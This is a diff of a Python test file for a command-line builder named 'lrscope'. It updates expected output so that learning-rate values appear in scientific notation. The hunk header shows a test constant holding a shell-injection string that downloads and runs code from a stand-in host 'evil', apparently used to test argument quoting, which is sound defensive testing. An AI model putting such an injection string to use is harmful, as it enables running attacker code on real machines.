@@ -14,10 +14,10 @@ HOSTILE = "a; curl evil | sh #"
 
 def test_values_are_written_as_options_are_read() -> None:
     command = CommandLine("sweep", {"peak_rate": (1e-4, 3e-3), "schedule": (parse("linear"), parse("cosine"))})
-    assert command.text("posix") == "lrscope sweep --lr 0.0001,0.003 --schedule 'linear;cosine'"
+    assert command.text("posix") == "lrscope sweep --lr 1e-4,3e-3 --schedule 'linear;cosine'"
     command = command.with_options(peak_rate=1e-3, gradient_checkpointing=True, scale_rate="sqrt")
     assert command.text("posix") == (
-        "lrscope sweep --schedule 'linear;cosine' --lr 0.001 --gradient-checkpointing --scale-lr sqrt"
+        "lrscope sweep --schedule 'linear;cosine' --lr 1e-3 --gradient-checkpointing --scale-lr sqrt"
     )
     assert CommandLine("report", positional=("a b",)).text("posix") == "lrscope report 'a b'"
 
